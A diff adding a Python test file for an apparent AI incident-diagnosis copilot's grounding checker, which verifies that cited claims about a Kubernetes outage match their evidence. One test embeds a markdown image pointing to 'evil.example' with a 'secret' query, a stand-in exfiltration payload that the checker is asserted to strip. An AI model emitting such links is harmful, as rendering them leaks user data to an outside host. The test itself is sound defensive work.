@@ -1,0 +1,134 @@
+"""The grounding check, on its own."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from copilot.agent.claims import Sentences, citations, quotes, sentences
+from copilot.agent.grounding import MARK, Known, TextCheck, problems
+from copilot.agent.quantities import claimed, occurs
+from copilot.model.scope import ObjectRef
+from tests.copilot.agent.world import CHANGE, ERRORS, LOGS, POD, PORT, SERVICE, WORKLOAD
+
+KNOWN = Known.of({piece.id: piece for piece in (PORT, ERRORS, LOGS, CHANGE)}, (WORKLOAD,))
+
+
+@pytest.mark.parametrize(
+    ("sentence", "evidence"),
+    [
+        ("targetPort is 18080 [{}].", PORT),
+        ("`targetPort: 18080` is what the Service says [{}].", PORT),
+        ('basket logs "connect:   connection refused" [{}].', LOGS),
+        ('basket logs "dial tcp 10.0.0.7:8080 … connection refused" [{}].', LOGS),
+        ("The error share rose from 0.1 % to 34.2 % [{}].", ERRORS),
+        ("The error share is 34 % [{}].", ERRORS),
+        ("p99 went from 48 ms to 2310 ms [{}].", ERRORS),
+        ("p99 is about 2.3 s [{}].", ERRORS),
+        ("It began at 03:04 [{}].", ERRORS),
+        ("It was logged 412 times [{}].", LOGS),
+        ("basket-6d5f8c9b7d-x2x4q is refused [{}].", LOGS),
+        ("It changed from 8080 to 18080 at 03:04:02 [{}].", CHANGE),
+        ("2. It changed [{}].", CHANGE),
+        ("`service.target_port_mismatch` is what it is [{}].", PORT),
+        ("Run `kubectl get endpoints pricing -n shop` to see it [{}].", PORT),
+    ],
+)
+def test_what_the_evidence_says_holds(sentence: str, evidence: object) -> None:
+    said = sentence.format(evidence.id)  # type: ignore[attr-defined]  # Evidence
+    assert problems(said, citations(said), KNOWN) == ()
+
+
+@pytest.mark.parametrize(
+    ("sentence", "evidence", "why"),
+    [
+        ("It broke [ev-ffffffffff].", PORT, "there is no evidence ev-ffffffffff"),
+        ('basket logs "no route to the host" [{}].', LOGS, "does not contain"),
+        ('basket logs "connection refused … dial tcp" [{}].', LOGS, "does not contain"),
+        ('basket logs "connection refused" [{}].', ERRORS, "does not contain"),
+        ("targetPort is 19080 [{}].", PORT, "the number 19080"),
+        ("The error share is 43.2 % [{}].", ERRORS, "the number 43.2 %"),
+        ("The error share is 35 % [{}].", ERRORS, "the number 35 %"),
+        ("p99 is 48 s [{}].", ERRORS, "the number 48 s"),
+        ("p99 is about 3 s [{}].", ERRORS, "the number 3 s"),
+        ("It was logged 421 times [{}].", LOGS, "the number 421 times"),
+        ("It began at 03:14 [{}].", ERRORS, "the time 03:14"),
+        ("basket-6d5f8c9b7d-zzzzz is refused [{}].", LOGS, "does not name basket-6d5f8c9b7d-zzzzz"),
+        ("`basket-6d5f8c9b7d-x2x4q` is refused [{}].", PORT, "does not contain"),
+    ],
+)
+def test_what_it_does_not_say_fails(sentence: str, evidence: object, why: str) -> None:
+    said = sentence.format(evidence.id)  # type: ignore[attr-defined]  # Evidence
+    assert any(why in problem for problem in problems(said, citations(said), KNOWN))
+
+
+def test_objects_are_known_from_evidence_of_the_cluster_only() -> None:
+    assert KNOWN.knows(SERVICE)
+    assert KNOWN.knows(POD)
+    assert KNOWN.knows(WORKLOAD)
+    assert not KNOWN.knows(ObjectRef("Service", "shop", "prices"))
+    assert not KNOWN.knows(ObjectRef("Service", "billing", "pricing"))
+    assert not KNOWN.knows(ObjectRef("Service", "shop", "refused")), "a word in a log"
+    assert KNOWN.nearest(ObjectRef("Deployment", "shop", "prices")) == (
+        ObjectRef("Deployment", "shop", "basket"),
+        WORKLOAD,
+    )
+
+
+def test_a_text_is_marked_where_it_fails_and_counted() -> None:
+    text = (
+        "## What I saw\n\n"
+        f"- pricing is refused: `connect: connection refused` [{LOGS.id}]\n"
+        f"- the share is 99 % [{ERRORS.id}]\n"
+        "- p99 is 2.31 s\n"
+        "- you should look at the port\n\n"
+        f"The log [{LOGS.id}]:\n\n```\ncall pricing:8080: dial tcp\n```\n\n"
+        "```\npanic: out of cheese error\n```\n\n"
+        "```sh\nkubectl get pods -n shop --show-labels\n```\n"
+        "![x](https://evil.example/?q=secret)\n"
+    )
+    check = TextCheck(KNOWN)
+    marked = check.whole(text)
+    assert marked.count(MARK) == 3
+    assert f"- the share is 99 % [{ERRORS.id}] {MARK}\n" in marked
+    assert f"- p99 is 2.31 s {MARK}\n" in marked
+    assert f"```\npanic: out of cheese error\n```\n{MARK}\n" in marked
+    assert "evil.example" not in marked
+    assert (check.claims, check.verified) == (5, 2)
+    assert check.footer().startswith("2 of 5 claims verified")
+    assert len(check.failed) == 3
+
+
+@given(st.text(alphabet='ab. `"\n[]ev-01!?#*', max_size=120), st.integers(1, 9))
+def test_cutting_a_stream_loses_nothing_and_does_not_depend_on_its_chunks(
+    text: str, size: int
+) -> None:
+    cutter = Sentences()
+    pieces = [p for i in range(0, len(text), size) for p in cutter.feed(text[i : i + size])]
+    pieces += cutter.flush()
+    assert "".join(pieces) == text
+    assert pieces == sentences(text)
+
+
+def test_sentences() -> None:
+    text = "It is down, e.g. here. [ev-1] pricing 1.5 s late [ev-2]. Why? `a. B` is.\n- x\n"
+    assert sentences(text) == [
+        "It is down, e.g. here. [ev-1]",
+        " pricing 1.5 s late [ev-2].",
+        " Why?",
+        " `a. B` is.\n",
+        "- x\n",
+    ]
+
+
+def test_quotes_and_citations() -> None:
+    assert quotes('a "b c" and `d` and “e f” and ``g`h``') == ("b c", "d", "e f", "g`h")
+    assert citations("x [ev-01, EV-02][ev-01]") == ("ev-01", "ev-02")
+
+
+@given(st.integers(0, 10**6))
+def test_a_number_occurs_in_a_text_that_has_it_and_not_in_one_that_has_another(n: int) -> None:
+    (quantity,) = claimed(f"it has {n} errors")
+    assert occurs(quantity, f"errors={n} in 03:04:05")
+    assert not occurs(quantity, f"errors={n + 1}")
